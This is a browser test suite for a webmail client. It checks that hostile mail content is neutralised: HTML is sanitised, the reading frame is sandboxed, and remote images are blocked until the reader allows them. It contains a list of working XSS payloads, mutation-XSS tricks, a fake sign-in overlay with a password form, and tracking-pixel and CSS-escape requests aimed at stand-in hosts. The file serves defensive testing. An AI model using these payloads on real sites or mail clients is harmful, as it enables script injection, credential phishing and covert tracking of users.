// Mail is written by attackers. Whatever they write: nothing runs, nothing is asked for, nothing leaves its place.
// The fixture watches every page for errors, refused content and requests to strangers.

import { once } from 'node:events';
import { createServer, type IncomingHttpHeaders } from 'node:http';

import type { Page } from '@playwright/test';

import { fill } from '../farm.ts';
import { enter, expect, FARM_DIR, test } from '../fixtures.ts';

/** Where a trace would be left by a script that ran. */
const ALARM = 'top.document.title=`pwned`;top.pwned=1';

/** Each is an attempt on its own; all are in one mail. */
const ATTEMPTS = [
  `<script>${ALARM}</script>`,
  `<img src="data:image/png,x" onerror="${ALARM}">`,
  `<body onload="${ALARM}">`,
  `<svg onload="${ALARM}"><animate onbegin="${ALARM}" attributeName="x" dur="1s"></animate><script>${ALARM}</script></svg>`,
  `<svg><image href="http://tracker.test/svg-image"/><use href="http://tracker.test/use#x"/><feImage href="http://tracker.test/fe"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ALARM}&gt;"></mglyph></table></mtext></math>`,
  `<iframe src="http://tracker.test/frame"></iframe><iframe srcdoc="<script>${ALARM}</script>"></iframe>`,
  `<object data="http://tracker.test/object"></object><embed src="http://tracker.test/embed">`,
  `<meta http-equiv="refresh" content="0; url=http://tracker.test/refresh">`,
  `<base href="http://tracker.test/">`,
  `<link rel="stylesheet" href="http://tracker.test/style.css"><link rel="prefetch" href="http://tracker.test/prefetch">`,
  `<style>@import "http://tracker.test/import.css"; @font-face { font-family: x; src: url(http://tracker.test/font) }
   body { background: url(http://tracker.test/css-body) } p { background: u\\72l(http://tracker.test/css-escaped) }
   @\\69mport url(http://tracker.test/import-escaped);</style>`,
  `<p style="background-image: url('http://tracker.test/inline'); font-family: x">styled</p>`,
  `<div style="position: fixed; inset: 0; z-index: 99999; background: white"><h1>Your session has expired</h1></div>`,
  `<form action="http://tracker.test/form" method="post"><label>Password <input name="p" type="password" autofocus></label><button>Sign in</button></form>`,
  `<video src="http://tracker.test/video" poster="http://tracker.test/poster" autoplay></video><audio src="http://tracker.test/audio" autoplay></audio>`,
  `<img src="http://tracker.test/one.gif" width="1" height="1" alt="">`,
  `<img srcset="http://tracker.test/srcset.gif 1x" alt=""><picture><source srcset="http://tracker.test/source.gif"><img src="//tracker.test/two.gif" alt=""></picture>`,
  `<table background="http://tracker.test/table"><tr><td background="http://tracker.test/cell">cell</td></tr></table>`,
  `<input type="image" src="http://tracker.test/input.gif">`,
  `<a id="trap" href="java&#x09;script:${ALARM}">a trap</a>`,
  `<a id="data" href="data:text/html,<script>${ALARM}</script>">another</a>`,
  `<a ping="http://tracker.test/ping" href="https://elsewhere.test/honest">an honest link</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${ALARM}>"></noscript>`,
  `<template><script>${ALARM}</script></template><xmp><script>${ALARM}</script></xmp>`,
  `<a href="#" onclick="${ALARM}" onmouseover="${ALARM}" style="animation-name: x" onanimationstart="${ALARM}">hover</a>`,
];

test('a hostile mail runs nothing, asks for nothing and stays in its place', async ({ page, newcomer, post }) => {
  const erin = await newcomer();
  await post(erin, { subject: 'You have won', html: `<p>First words</p>${ATTEMPTS.join('\n')}<p>Last words</p>` });
  const mail = await enter(page, erin);
  await mail.list.row('You have won').click();
  const frame = mail.reader.frame();
  await expect(frame.getByText('First words')).toBeVisible();
  await expect(frame.getByText('Last words')).toBeAttached();

  // The remote images are counted, and none was asked for (the fixture sees each request).
  await expect(mail.reader.region.getByText(/^\d+ remote images were not loaded, to protect your privacy\.$/)).toBeVisible();

  // What a person would do with it.
  await frame.getByText('hover').hover();
  await frame.getByText('a trap').click();
  await frame.getByText('another', { exact: true }).click();

  // Nothing that could run, ask, or be filled in is left in the document.
  const rest = frame.locator(
    'script, iframe, object, embed, form, input, button, svg, math, video, audio, link, meta[http-equiv="refresh" i], base[href], [onclick], [onerror], [onload], [ping]',
  );
  await expect(rest).toHaveCount(0);
  await expect(frame.getByRole('link', { name: 'an honest link' })).toHaveAttribute('href', 'https://elsewhere.test/honest');
  await expect(frame.getByRole('link', { name: 'an honest link' })).toHaveAttribute('rel', /noopener noreferrer/);

  // Nothing lies over the page: the toolbar can be pressed, and says what it does.
  await expect(page).toHaveTitle(/You have won - Gatepost$/);
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  await mail.reader.press('Star');
  await expect(mail.list.row(/Starred/)).toBeVisible();
});

test('the frame would run nothing even if the sanitiser had let it through', async ({ page, newcomer, post }) => {
  const erin = await newcomer();
  await post(erin, { subject: 'Walls', html: '<p>inside</p>' });
  const mail = await enter(page, erin);
  const response = page.waitForResponse(/\/html(\?|$)/);
  await mail.list.row('Walls').click();
  const policy = (await response).headers()['content-security-policy']!;
  expect(policy).toContain("default-src 'none'");
  expect(policy).toMatch(/(^|; *)sandbox /);
  expect(policy).not.toContain('allow-scripts');
  const frame = page.locator('iframe[title="Text of the message"]');
  expect(await frame.getAttribute('sandbox')).not.toContain('allow-scripts');
});

for (const [field, letter] of Object.entries({
  subject: { subject: "<img src=x onerror=alert(1)>{{7*7}}<b>bold</b>" },
  sender: { from: '"<script>alert(1)</script><b>Boss</b>" <boss@elsewhere.test>', subject: 'From the boss' },
  'encoded sender': { from: `=?utf-8?B?${Buffer.from('"><img src=x onerror=alert(1)>').toString('base64')}?= <x@elsewhere.test>`, subject: 'Encoded' },
})) {
  test(`markup in the ${field} is only text`, async ({ page, newcomer, post }) => {
    const erin = await newcomer();
    await post(erin, letter);
    const mail = await enter(page, erin);
    const row = mail.list.rowAt(0);
    await expect(row).toContainText(field === 'subject' ? '<b>bold</b>' : field === 'sender' ? '<b>Boss</b>' : 'onerror=alert(1)>');
    await row.click();
    await expect(mail.reader.subject).toHaveText(letter.subject);
    await expect(mail.reader.region.locator('b, script, img')).toHaveCount(0);
    await expect(mail.list.grid.locator('b, script, img')).toHaveCount(0);
    await mail.reader.press('Reply');
    await expect(mail.composer().subject).toHaveValue(`Re: ${letter.subject}`);
    await expect(mail.composer().panel.locator('b, script, img')).toHaveCount(0);
  });
}

test("markup in a folder's name is only text", async ({ page, newcomer }) => {
  const erin = await newcomer();
  const name = '<img src=x onerror=alert(1)>';
  await fill(FARM_DIR, erin.name, 1, name);
  const mail = await enter(page, erin);
  await mail.folders.getByText(name).click();
  await expect(page.getByRole('heading', { level: 1, name })).toBeVisible();
  await expect(page).toHaveTitle(/<img src=x onerror=alert\(1\)> - Gatepost$/);
  // The row of a letter, with a sender and a subject; until then nobody could press it.
  await expect(mail.list.rowAt(0)).toHaveAccessibleName(/, /);
  await mail.list.rowAt(0).click();
  await mail.reader.press('Move to a folder');
  await page.getByRole('combobox', { name: 'Find a folder' }).fill(name);
  await expect(page.getByText('No folder has this name.')).toBeVisible();
  await expect(page.locator('img')).toHaveCount(0);
});

test("a hostile attachment's name is only text, and its file is only downloaded", async ({ page, newcomer, post }) => {
  const erin = await newcomer();
  const name = '<img src=x onerror=alert(1)>..page.html';
  const bytes = Buffer.from('<script>top.pwned = 1</script>');
  await post(erin, { subject: 'Look at it', attachments: [{ name, type: 'text/html', bytes }] });
  const mail = await enter(page, erin);
  await mail.list.row('Look at it').click();
  await expect(mail.reader.region.locator('.attachment-name')).toHaveText(name);
  const link = mail.reader.attachment(name);
  const answer = await page.request.get((await link.getAttribute('href'))!);
  expect(answer.headers()['content-disposition']).toMatch(/^attachment/);
  expect(answer.headers()['content-security-policy']).toContain('sandbox');
  expect(answer.headers()['x-content-type-options']).toBe('nosniff');

  // Opened in the window itself, it would still do nothing.
  const download = page.waitForEvent('download');
  await link.click();
  expect((await download).suggestedFilename()).not.toMatch(/[/\\<>]/);
});

test('a hostile text mail makes no markup of its links', async ({ page, newcomer, post }) => {
  const erin = await newcomer();
  await post(erin, {
    subject: 'Links',
    text: 'javascript:alert(1) https://elsewhere.test/"onmouseover="alert(1) <img src=x onerror=alert(1)> a@a.co?]<img/src=x/onerror=alert(1)>',
  });
  const mail = await enter(page, erin);
  await mail.list.row('Links').click();
  await expect(mail.reader.text).toContainText('<img src=x onerror=alert(1)>');
  for (const link of await mail.reader.text.getByRole('link').all()) {
    expect(await link.getAttribute('href')).toMatch(/^(https:|mailto:)/);
  }
  await expect(mail.reader.text.locator('[onmouseover], img, script')).toHaveCount(0);
});

test('the quoted text of a hostile mail is only text in the answer', async ({ page, newcomer, post }) => {
  const erin = await newcomer();
  await post(erin, { subject: 'Answer me', html: `<p>Words to quote</p>${ATTEMPTS.join('\n')}` });
  const mail = await enter(page, erin);
  await mail.list.row('Answer me').click();
  await expect(mail.reader.frame().getByText('Words to quote')).toBeVisible();
  await mail.reader.press('Reply');
  await expect(mail.composer().body).toHaveValue(/> Words to quote/);
  await expect(mail.composer().panel.locator('script, img, form form, iframe, style')).toHaveCount(0);
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
});

// A host of pictures, on an address of loopback that is neither the node nor the farm.
const PIXELS = '127.0.0.2:58473';

test.describe('remote images', () => {
  test.use({ knownStrangers: [PIXELS] });

  test('are asked for when the person says so, not before, and without a word about where from', async ({ page, newcomer, post }) => {
    const asked: { url: string; headers: IncomingHttpHeaders }[] = [];
    const host = createServer((request, response) => {
      asked.push({ url: request.url!, headers: request.headers });
      response.setHeader('content-type', 'image/png').end(DOT);
    }).listen(Number(PIXELS.split(':')[1]), PIXELS.split(':')[0]);
    await once(host, 'listening');
    try {
      const erin = await newcomer();
      await post(erin, {
        subject: 'Newsletter',
        html: `<p>News</p><img src="http://${PIXELS}/one.png" alt="one"><img src="http://${PIXELS}/two.png" alt="two">`,
      });
      const mail = await enter(page, erin);
      await mail.list.row('Newsletter').click();
      await expect(mail.reader.frame().getByText('News')).toBeVisible();
      await expect(mail.reader.region.getByText('2 remote images were not loaded, to protect your privacy.')).toBeVisible();
      expect(asked).toEqual([]);

      await mail.reader.region.getByRole('button', { name: 'Show them' }).click();
      await expect.poll(() => loaded(page)).toEqual([1, 1]);
      expect(asked.map(({ url }) => url).sort()).toEqual(['/one.png', '/two.png']);
      for (const { headers } of asked) {
        expect(headers.referer).toBeUndefined();
        expect(headers.cookie).toBeUndefined();
      }
      await expect(mail.reader.region.getByText(/remote image/)).toHaveCount(0);

      // The choice was for this message, this time.
      await page.reload();
      await mail.accountButton.waitFor();
      await expect(mail.reader.region.getByText(/^2 remote images/)).toBeVisible();
      expect(asked).toHaveLength(2);
    } finally {
      host.close();
      host.closeAllConnections();
    }
  });
});

/** The widths of the pictures in the mail, once they are there. */
async function loaded(page: Page): Promise<number[]> {
  const pictures = page.frameLocator('iframe[title="Text of the message"]').locator('img');
  return pictures.evaluateAll((all) => all.map((one) => (one as HTMLImageElement).naturalWidth));
}

const DOT = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
